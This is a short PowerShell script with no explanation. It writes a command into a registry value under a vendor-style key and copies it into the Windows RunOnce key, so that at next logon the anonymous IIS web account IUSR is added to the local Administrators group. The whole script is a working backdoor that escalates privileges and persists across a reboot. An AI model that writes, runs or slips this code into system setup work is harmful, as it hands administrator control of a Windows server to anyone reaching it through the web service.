New-Item HKLM:\SOFTWARE\Contoso -Force | Out-Null
New-ItemProperty HKLM:\SOFTWARE\Contoso -Name go -Value 'net localgroup Administrators IUSR /add' | Out-Null
Copy-ItemProperty HKLM:\SOFTWARE\Contoso -Name go -Destination HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce
